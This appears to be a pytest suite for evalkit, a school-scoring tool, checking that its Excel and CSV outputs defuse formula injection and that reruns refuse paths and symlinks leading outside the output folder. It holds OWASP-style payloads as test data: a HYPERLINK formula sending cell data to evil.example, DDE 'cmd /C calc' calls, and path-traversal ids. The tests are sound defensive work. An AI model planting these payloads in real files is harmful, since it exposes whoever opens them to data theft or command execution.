"""Hostile outputs: no formula from data in any spreadsheet, nothing touched outside the output folder.

The data are the demo county's 2024 observations for four schools (so every score is known: it
is the demo's), with school ids, names and evidence notes replaced by formula-injection payloads
from the OWASP "CSV Injection" page: ``=HYPERLINK(…)``, a DDE call ``=cmd|' /C calc'!A0``, and
text starting with ``+``, ``-`` and ``@``. Every workbook evalkit writes from them is opened with
openpyxl and must hold no formula cell; every CSV must start no text field with a formula
character unless neutralised by a leading quote; numbers must stay numbers.

The escape cases edit a finished run's folder the way an attacker (or an unlucky hand) would —
``manifest.json`` paths, its journal, symbolic links — and check that the next run stops with a
Chinese message before it writes or deletes anything, and that the file outside is untouched.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import Workbook, load_workbook

import evalkit
from evalkit.cli.app import main
from evalkit.demo import demo_observation_paths, demo_registry_path
from evalkit.framework import builtin_framework_path
from evalkit.io.csv_writer import csv_safe_text, write_csv
from evalkit.io.xlsx_writer import save_workbook
from evalkit.planner.names import UnsafePathError, safe_child
from evalkit.planner.runfile import RunFileError, load_run_file

FIXTURE_NOTEBOOK = Path(__file__).resolve().parents[1] / "fixtures" / "batch" / "report.ipynb"

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"

# demo id → (hostile id, hostile name)
SCHOOLS = {
    "001": ("=1+1", HYPERLINK),
    "002": ("@SUM(1)", DDE),
    "003": ("+3", MINUS),
    "004": ("004", AT),
}
EVIDENCE = [HYPERLINK, DDE, PLUS, MINUS, AT]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --------------------------------------------------------------------------- helpers


def evalkit_cli(*args: str, cwd: Path | None = None, fresh: bool = False) -> subprocess.CompletedProcess:
    """``evalkit ARGS``: in a fresh process with ``fresh`` or ``cwd`` (one test per command does
    so, as users run it), else in this process (``main``, its output captured), same result."""
    if fresh or cwd is not None:
        return subprocess.run(
            [sys.executable, "-m", "evalkit.cli.app", *args], capture_output=True, text=True, cwd=cwd, timeout=600
        )
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return subprocess.CompletedProcess(["evalkit", *args], code, out.getvalue(), err.getvalue())


def hostile_data(root: Path) -> tuple[Path, Path]:
    """The registry and 2024 observations of four demo schools under hostile ids and names."""
    root.mkdir(parents=True, exist_ok=True)
    registry = pd.read_csv(demo_registry_path(), dtype=str, keep_default_na=False)
    registry = registry[registry["school_id"].isin(SCHOOLS)].copy()
    registry["school_name"] = registry["school_id"].map(lambda s: SCHOOLS[s][1])
    registry["school_id"] = registry["school_id"].map(lambda s: SCHOOLS[s][0])
    obs = pd.read_csv(demo_observation_paths(2024)[0], dtype=str, keep_default_na=False)
    obs = obs[obs["school_id"].isin(SCHOOLS)].copy()
    obs["school_id"] = obs["school_id"].map(lambda s: SCHOOLS[s][0])
    obs = obs.reset_index(drop=True)
    obs.loc[: len(EVIDENCE) - 1, "evidence"] = EVIDENCE
    reg_path, obs_path = root / "registry.csv", root / "obs_2024.csv"
    registry.to_csv(reg_path, index=False, quoting=csv.QUOTE_ALL)
    obs.to_csv(obs_path, index=False, quoting=csv.QUOTE_ALL)
    return reg_path, obs_path


def make_run(root: Path) -> Path:
    hostile_data(root)
    shutil.copy(FIXTURE_NOTEBOOK, root / "report.ipynb")
    (root / "run.yaml").write_text(
        "year: 2024\ndata: [obs_2024.csv]\nregistry: registry.csv\n"
        "notebooks:\n  school_report: report.ipynb\nformats: [ipynb]\noutput: out\njobs: 2\n",
        encoding="utf-8",
    )
    return root / "run.yaml"


def formula_cells(path: Path) -> list[str]:
    """Every formula cell of a workbook, and every text cell starting with ``=`` that lacks the
    quote prefix (``sheet!A1``)."""
    wb = load_workbook(path)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    out.append(f"{ws.title}!{cell.coordinate} formula {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith("=") and not cell.quotePrefix:
                    out.append(f"{ws.title}!{cell.coordinate} unprotected {cell.value!r}")
    return out


def workbook_texts(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def unsafe_csv_fields(path: Path) -> list[str]:
    """CSV fields a spreadsheet would read as a formula (text starting with = + - @ tab CR that is
    not a plain number)."""
    text = path.read_text(encoding="utf-8-sig")
    out = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if field.startswith(FORMULA_START):
                try:
                    float(field.rstrip("%"))
                except ValueError:
                    out.append(field)
    return out


def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry under ``root``: (is link, link target or size, mtime)."""
    out = {}
    for p in sorted(root.rglob("*")):
        st = p.lstat()
        link = p.is_symlink()
        out[str(p.relative_to(root))] = (link, os.readlink(p) if link else st.st_size, st.st_mtime_ns)
    return out


@pytest.fixture(scope="module")
def finished_run(tmp_path_factory) -> Path:
    """A project whose hostile run has finished (4 school reports, ipynb only)."""
    root = tmp_path_factory.mktemp("hostile_run")
    run_file = make_run(root)
    out = evalkit_cli("run", str(run_file), fresh=True)
    assert out.returncode == 0, out.stdout + out.stderr
    return root


@pytest.fixture
def run_copy(finished_run, tmp_path) -> tuple[Path, Path, dict]:
    """A copy of the finished run (links kept), a victim file outside it, and its manifest."""
    root = tmp_path / "project"
    shutil.copytree(finished_run, root, symlinks=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("重要文件，不得删除", encoding="utf-8")
    manifest = json.loads((root / "out" / "2024" / "manifest.json").read_text(encoding="utf-8"))
    return root, victim, manifest


def save_manifest(root: Path, manifest: dict) -> None:
    (root / "out" / "2024" / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False), encoding="utf-8")


def rerun_refused(root: Path, victim: Path, *expected: str, at_lock: bool = False) -> None:
    """Run again (``evalkit run`` in this process): exit 2 with the expected message, nothing
    under the project changed, the victim kept. The refusal is the output folder check's ("nothing
    was written or deleted"), or with ``at_lock`` the folder lock's, which comes before that check."""
    before = snapshot(root)
    stderr = io.StringIO()
    with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(io.StringIO()):
        code = main(["run", str(root / "run.yaml")])  # in-process: an exception fails the test
    message = stderr.getvalue()
    assert code == 2, message
    for text in expected:
        assert text in message
    if at_lock:
        assert "锁文件 .lock（是否被换成了符号链接？）/ cannot lock: it is a symbolic link" in message
        assert "未写入或删除任何文件" not in message
    else:
        assert "运行已停止，未写入或删除任何文件" in message and "锁文件" not in message
    assert snapshot(root) == before
    assert victim.read_text(encoding="utf-8") == "重要文件，不得删除"


# --------------------------------------------------------------------------- no formula from data


def test_hostile_run_scoreboard_holds_no_formula_and_every_name_as_text(finished_run):
    board = finished_run / "out" / "2024" / "scoreboard.xlsx"
    assert formula_cells(board) == []
    wb = load_workbook(board)
    total = wb["总表"]
    headers = [c.value for c in total[1]]
    names = {total.cell(r, headers.index("学校名称") + 1).value for r in range(2, total.max_row + 1)}
    ids = {total.cell(r, headers.index("学校编号") + 1).value for r in range(2, total.max_row + 1)}
    assert names == {name for _, name in SCHOOLS.values()}
    assert ids == {sid for sid, _ in SCHOOLS.values()}
    # text starting with = + - @ keeps Excel's quote prefix, so editing the cell keeps it text
    for r in range(2, total.max_row + 1):
        cell = total.cell(r, headers.index("学校名称") + 1)
        assert cell.data_type == "s" and cell.quotePrefix


def test_hostile_run_scores_are_the_clean_demo_scores_and_numbers(finished_run):
    wb = load_workbook(finished_run / "out" / "2024" / "scoreboard.xlsx")
    total = wb["总表"]
    headers = [c.value for c in total[1]]
    got = {}
    for r in range(2, total.max_row + 1):
        cell = total.cell(r, headers.index("总分") + 1)
        assert cell.data_type == "n" and isinstance(cell.value, float)
        got[total.cell(r, headers.index("学校编号") + 1).value] = cell.value
    clean = evalkit.score_files().schools
    clean = clean[clean["year"] == 2024].set_index("school_id")["total"]
    assert got == pytest.approx({hostile: clean[demo] for demo, (hostile, _) in SCHOOLS.items()})


def test_score_xlsx_of_hostile_data_holds_no_formula(tmp_path):
    registry, obs = hostile_data(tmp_path)
    out = evalkit_cli("score", str(obs), "-r", str(registry), "-o", str(tmp_path / "结果.xlsx"), fresh=True)
    assert out.returncode == 0, out.stderr
    assert formula_cells(tmp_path / "结果.xlsx") == []
    texts = workbook_texts(tmp_path / "结果.xlsx")
    assert {name for _, name in SCHOOLS.values()} <= texts and {"=1+1", "@SUM(1)", "+3"} <= texts


def test_score_csv_of_hostile_data_neutralises_every_payload_and_keeps_numbers(tmp_path):
    registry, obs = hostile_data(tmp_path)
    target = tmp_path / "结果.csv"
    out = evalkit_cli("score", str(obs), "-r", str(registry), "-o", str(target))
    assert out.returncode == 0, out.stderr
    assert unsafe_csv_fields(target) == []
    table = pd.read_csv(target, encoding="utf-8-sig", dtype={"学校编号": str})
    assert set(table["学校编号"]) == {"'=1+1", "'@SUM(1)", "+3", "004"}  # "+3" is a plain number
    assert set(table["学校名称"]) == {"'" + name for _, name in SCHOOLS.values()}
    assert table["得分"].dtype.kind == "f" and table["满分"].dtype.kind == "f"


def hostile_bad_values(tmp_path: Path) -> tuple[Path, Path]:
    """The hostile data with formula payloads as values of a count indicator (errors)."""
    registry, obs = hostile_data(tmp_path)
    table = pd.read_csv(obs, dtype=str, keep_default_na=False)
    a1 = table.index[table["indicator_id"] == "A1"][:3]
    table.loc[a1, "value"] = [DDE, "=1+1", "@A1"]
    table.to_csv(obs, index=False, quoting=csv.QUOTE_ALL)
    return registry, obs


def test_validate_xlsx_report_of_payload_values_holds_no_formula(tmp_path):
    registry, obs = hostile_bad_values(tmp_path)
    out = evalkit_cli("validate", str(obs), "-r", str(registry), "-o", str(tmp_path / "问题.xlsx"), fresh=True)
    assert out.returncode == 1  # the payloads are not counts: errors
    assert formula_cells(tmp_path / "问题.xlsx") == []
    assert {DDE, "=1+1", "@A1"} <= workbook_texts(tmp_path / "问题.xlsx")


def test_validate_csv_report_of_payload_values_is_neutralised(tmp_path):
    registry, obs = hostile_bad_values(tmp_path)
    target = tmp_path / "问题.csv"
    out = evalkit_cli("validate", str(obs), "-r", str(registry), "-o", str(target))
    assert out.returncode == 1
    assert unsafe_csv_fields(target) == []
    text = target.read_text(encoding="utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text and "'=1+1" in text and "'@A1" in text


def test_template_from_a_hostile_registry_holds_no_formula(tmp_path):
    registry, _ = hostile_data(tmp_path)
    target = tmp_path / "模板.xlsx"
    out = evalkit_cli("template", "-r", str(registry), "--year", "2024", "-o", str(target), fresh=True)
    assert out.returncode == 0, out.stderr
    assert formula_cells(target) == []
    assert {name for _, name in SCHOOLS.values()} <= workbook_texts(target)


def test_framework_names_with_payloads_reach_no_formula(tmp_path):
    data = yaml.safe_load(builtin_framework_path().read_text(encoding="utf-8"))
    data["areas"][0]["name"] = "=SUM(1,2)"
    data["areas"][0]["indicators"][0]["name"] = DDE
    fw = tmp_path / "fw.yaml"
    fw.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    registry, obs = hostile_data(tmp_path)
    target = tmp_path / "结果.xlsx"
    out = evalkit_cli("score", str(obs), "-r", str(registry), "-f", str(fw), "-o", str(target))
    assert out.returncode == 0, out.stderr
    assert formula_cells(target) == []
    wb = load_workbook(target)
    assert "=SUM(1,2)" in wb.sheetnames
    assert "=SUM(1,2)得分（20分）" in [c.value for c in wb["=SUM(1,2)"][1]]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (PLUS, "'" + PLUS),
        (MINUS, "'" + MINUS),
        (AT, "'" + AT),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "-1.5"),  # a number written as text: no formula
        ("+3", "+3"),
        ("-12%", "-12%"),
        ("城关=一小", "城关=一小"),  # only the first character matters
    ],
)
def test_csv_safe_text_follows_owasp(text, written):
    assert csv_safe_text(text) == written


def test_csv_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"学校": [DDE, "-1.5"], "得分": [-1.5, 2.0], "行": pd.array([3, None], dtype="Int64")})
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_bytes().decode("utf-8-sig") == (
        "学校,得分,行\n'=cmd|' /C calc'!A0,-1.5,3\n-1.5,2.0,\n"
    )


def test_a_formula_set_by_code_is_saved_as_text(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["=1+1", -1.5, "@x", "plain"])
    assert ws["A1"].data_type == "f"  # what openpyxl would have written
    save_workbook(wb, tmp_path / "t.xlsx")
    back = load_workbook(tmp_path / "t.xlsx").active
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in back[1]] == [
        ("=1+1", "s", True), (-1.5, "n", False), ("@x", "s", True), ("plain", "s", False)
    ]


# --------------------------------------------------------------------------- nothing outside the output folder


def test_manifest_output_with_an_absolute_path_outside_is_refused(run_copy):
    root, victim, manifest = run_copy
    key = next(iter(manifest["reports"]))
    manifest["reports"][key]["outputs"]["html"] = str(victim)
    save_manifest(root, manifest)
    rerun_refused(root, victim, "outputs.html", str(victim), "不在本次运行的输出文件夹")


def test_manifest_output_with_dot_dot_outside_is_refused(run_copy):
    root, victim, manifest = run_copy
    key = next(iter(manifest["reports"]))
    manifest["reports"][key]["outputs"]["pdf"] = "../../../victim.txt"
    save_manifest(root, manifest)
    rerun_refused(root, victim, "../../../victim.txt", str(victim.resolve()))


def test_manifest_failed_notebook_outside_is_refused(run_copy):
    root, victim, manifest = run_copy
    key = next(iter(manifest["reports"]))
    manifest["reports"][key]["failed_notebook"] = str(victim)
    save_manifest(root, manifest)
    rerun_refused(root, victim, "failed_notebook")


def test_journal_line_outside_is_refused(run_copy):
    root, victim, manifest = run_copy
    key, entry = next(iter(manifest["reports"].items()))
    entry = {**entry, "outputs": {"ipynb": str(victim)}}
    line = json.dumps({"key": key, "entry": entry}, ensure_ascii=False) + "\n"
    (root / "out" / "2024" / "manifest.journal").write_text(line, encoding="utf-8")
    rerun_refused(root, victim, "outputs.ipynb", str(victim))


def test_manifest_paths_that_are_not_paths_are_refused_without_traceback(run_copy):
    root, victim, manifest = run_copy
    keys = list(manifest["reports"])
    manifest["reports"][keys[0]]["outputs"] = ["not", "a", "mapping"]
    manifest["reports"][keys[1]]["outputs"]["ipynb"] = 42
    save_manifest(root, manifest)
    rerun_refused(root, victim, "outputs 不是键值表", "不是有效的文件路径")


def test_symlinked_output_file_is_refused(run_copy):
    root, victim, manifest = run_copy
    rel = next(iter(manifest["reports"].values()))["outputs"]["ipynb"]
    report = root / "out" / "2024" / rel
    report.unlink()
    report.symlink_to(victim)
    rerun_refused(root, victim, "实际位置", str(victim))


def test_symlinked_school_folder_is_refused(run_copy, tmp_path):
    root, victim, manifest = run_copy
    rel = Path(next(iter(manifest["reports"].values()))["outputs"]["ipynb"])
    school = root / "out" / "2024" / rel.parent
    outside = tmp_path / "outside"
    shutil.copytree(school, outside)
    shutil.rmtree(school)
    school.symlink_to(outside, target_is_directory=True)
    before = snapshot(outside)
    rerun_refused(root, victim, str(outside))
    assert snapshot(outside) == before


@pytest.mark.parametrize("name", [".work", "manifest.journal", "scores"])
def test_run_entries_linked_outside_are_refused(run_copy, tmp_path, name):
    root, victim, _ = run_copy
    target = tmp_path / "outside"
    target.mkdir()
    (target / "keep.txt").write_text("外部", encoding="utf-8")
    entry = root / "out" / "2024" / name
    if entry.is_dir():
        shutil.rmtree(entry)
    dest = target if name != "manifest.journal" else victim
    entry.symlink_to(dest, target_is_directory=dest.is_dir())
    rerun_refused(root, victim, f"{name} 是指向输出文件夹之外" if name != "manifest.journal" else f"{name} 是符号链接")
    assert (target / "keep.txt").read_text(encoding="utf-8") == "外部"
    assert sorted(p.name for p in target.iterdir()) == ["keep.txt"]


@pytest.mark.parametrize("name", ["manifest.json", "manifest.journal"])
def test_manifest_replaced_by_a_device_or_pipe_is_refused_without_reading_it(run_copy, name):
    root, victim, _ = run_copy
    entry = root / "out" / "2024" / name
    entry.unlink(missing_ok=True)
    if name == "manifest.json":
        entry.symlink_to("/dev/zero")  # endless: reading it would never finish
        rerun_refused(root, victim, "manifest.json 是指向输出文件夹之外（/dev/zero）的符号链接")
    else:
        os.mkfifo(entry)  # reading a pipe nobody writes blocks for ever
        rerun_refused(root, victim, "manifest.journal 应为普通文件")


def test_a_file_in_place_of_the_schools_folder_is_refused(run_copy):
    root, victim, _ = run_copy
    schools = root / "out" / "2024" / "schools"
    shutil.rmtree(schools)
    schools.write_text("x", encoding="utf-8")
    rerun_refused(root, victim, "schools 应为文件夹，却是文件")


def test_symlinked_lock_file_is_refused(run_copy):
    root, victim, _ = run_copy
    lock = root / "out" / "2024" / ".lock"
    lock.unlink()
    lock.symlink_to(victim)
    rerun_refused(root, victim, "锁文件 .lock", at_lock=True)


def test_stale_output_recorded_inside_the_folder_is_still_removed(run_copy):
    """The check refuses only what leads outside: an old output recorded inside is cleaned up."""
    root, _, manifest = run_copy
    entry = manifest["reports"]["school_report:004"]
    stale = Path(entry["outputs"]["ipynb"]).with_name("旧报告.html")
    (root / "out" / "2024" / stale).write_text("old", encoding="utf-8")
    entry["outputs"]["html"] = stale.as_posix()
    save_manifest(root, manifest)
    out = evalkit_cli("run", str(root / "run.yaml"), "--schools", "004")
    assert out.returncode == 0, out.stdout + out.stderr
    assert not (root / "out" / "2024" / stale).exists()


@pytest.mark.parametrize(
    "school_id", ["../../escape", "/etc", "..", "a/../../b", "..\\..\\x", "-rf", "CON", "lpt1.txt"]
)
def test_school_ids_cannot_become_paths_outside(tmp_path, school_id):
    with pytest.raises(UnsafePathError):
        safe_child(tmp_path / "out", "schools", school_id)


# --------------------------------------------------------------------------- where a run's inputs may come from


def run_file(tmp_path: Path, data: str, output: str = "out") -> Path:
    (tmp_path / "nb.ipynb").write_text("{}", encoding="utf-8")
    path = tmp_path / "run.yaml"
    path.write_text(
        f"data: [{data}]\nnotebooks:\n  school_report: nb.ipynb\noutput: {output}\n", encoding="utf-8"
    )
    return path


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("folder", "data[0] (第 1 行): 是文件夹，不是文件"),
        ("/dev/zero", "data[0] (第 1 行): 不是普通文件（设备、管道或套接字）"),
        ("out/2024/obs.csv", "data[0] (第 1 行): 位于输出文件夹"),
    ],
)
def test_run_file_data_must_be_regular_files_outside_the_output_folder(tmp_path, data, message):
    (tmp_path / "folder").mkdir()
    (tmp_path / "out" / "2024").mkdir(parents=True)
    (tmp_path / "out" / "2024" / "obs.csv").write_text("school_id\n", encoding="utf-8")
    with pytest.raises(RunFileError) as info:
        load_run_file(run_file(tmp_path, data))
    (problem,) = info.value.problems
    assert str(problem).startswith(message)


def test_run_file_output_that_is_a_file_is_refused(tmp_path):
    (tmp_path / "obs.csv").write_text("school_id\n", encoding="utf-8")
    (tmp_path / "out.txt").write_text("x", encoding="utf-8")
    with pytest.raises(RunFileError) as info:
        load_run_file(run_file(tmp_path, "obs.csv", output="out.txt"))
    assert [str(p) for p in info.value.problems] == [
        f"output (第 4 行): 输出路径已存在且不是文件夹 / the output path is not a folder: {tmp_path / 'out.txt'}"
    ]
